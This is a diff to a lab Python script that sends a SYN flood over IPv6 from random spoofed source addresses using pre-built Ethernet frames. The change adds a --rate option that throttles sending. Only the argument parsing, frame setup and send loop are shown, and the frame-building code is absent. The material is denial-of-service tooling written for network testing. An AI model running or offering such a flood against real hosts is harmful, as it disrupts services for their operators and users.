@@ -2,7 +2,7 @@
 # SPDX-License-Identifier: BSD-3-Clause
 """A SYN flood over IPv6 from random sources, for the lab (hping3 speaks IPv4 only).
 
-usage: lab_flood6.py [--seconds N] [--frames N] DEVICE ADDRESS PORT
+usage: lab_flood6.py [--seconds N] [--frames N] [--rate N] DEVICE ADDRESS PORT
 
 Sends ready-made Ethernet frames, so that a single process is fast: some thousand different ones
 are built first, each with its own source address, port and sequence number and a right checksum,
@@ -54,6 +54,7 @@ def main():
     parser = argparse.ArgumentParser(description="SYN flood over IPv6 from random sources")
     parser.add_argument("--seconds", type=float, default=10, help="stop after (default 10)")
     parser.add_argument("--frames", type=int, default=8192, help="different SYNs (default 8192)")
+    parser.add_argument("--rate", type=int, help="SYNs a second (default: all that it can)")
     parser.add_argument("device")
     parser.add_argument("address")
     parser.add_argument("port", type=int)
@@ -67,8 +68,11 @@ def main():
     dst = socket.inet_pton(socket.AF_INET6, args.address)
     frames = [frame(src_mac, dst_mac, dst, args.port) for _ in range(args.frames)]
     sent = failed = 0
+    begun = time.monotonic()
     while time.monotonic() < end:
         for f in frames:
+            while args.rate and sent + failed >= (time.monotonic() - begun) * args.rate:
+                time.sleep(0.001)
             try:
                 out.send(f)
                 sent += 1
